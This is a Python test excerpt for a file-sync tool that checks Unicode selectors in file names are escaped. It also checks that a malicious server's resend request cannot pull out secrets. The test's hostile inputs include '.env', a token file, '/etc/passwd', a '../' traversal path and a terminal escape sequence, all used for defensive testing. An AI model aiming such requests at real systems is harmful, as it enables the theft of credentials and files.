    assert patchwire.sanitize(raw) == ("allowed<U+FE00> = x; a1<U+FE0F> <U+0890> <U+13430> <U+1BCA0> <U+FFF0> "
                                       "<U+E0100> <U+E0FFF>; \u2764\ufe0f \u00a9\ufe0e")  # emoji keep their style
    assert patchwire.name_problem("perm\ufe00.py") and not patchwire.name_problem("perm.py")
    # after a letter that is no emoji (kana, the Kelvin sign) a style selector is another name too
    assert patchwire.sanitize("\u3042\ufe0f \u212a\ufe0f \u2c65\ufe0f") == "\u3042<U+FE0F> \u212a<U+FE0F> \u2c65<U+FE0F>"
    assert patchwire.name_problem("\u3042\ufe0f.py")


def test_a_lying_409_cannot_make_the_laptop_send_what_never_goes(world):
    """A box answering 409 tree_mismatch names the paths to send again. Those it names that the
    laptop would not send anyway (a secret, an ignored file, the token, paths out of the
    project) stay here; only listed files go, and the names reach the terminal escaped."""
    lap, box, outside = world
    (lap.root / ".env").write_text("API_KEY=1\n")
    lies = ["README.md\x1b]0;pwned\x07", ".env", ".pwtoken", "data/secret.txt", "../outside/secret.txt",
            "/etc/passwd"]
    box.mismatches.append(lies)
    box.add_job("abc123", b"", ask=True)
    before = tree_digest(outside, skip=())
    asked = lap.run("ask", "x", "--yes")
    assert asked.returncode == 0, asked.err
    assert "\x1b" not in asked.err and "README.md^[]0;pwned^G" in asked.err
    sent = {p.relative_to(box.mirror).as_posix() for p in box.mirror.rglob("*") if not p.is_dir()}
    assert ".env" not in sent and ".pwtoken" not in sent and not any(p.startswith("data/") for p in sent)
    assert "README.md" in sent and tree_digest(outside, skip=()) == before
    first, second = box.ask_bodies  # the laptop asked again, with the full listing it sends
    assert {f[2] for f in second["files"]} == {f[2] for f in first["files"]}
    assert not {".env", ".pwtoken"} & {f[2] for f in second["files"]}
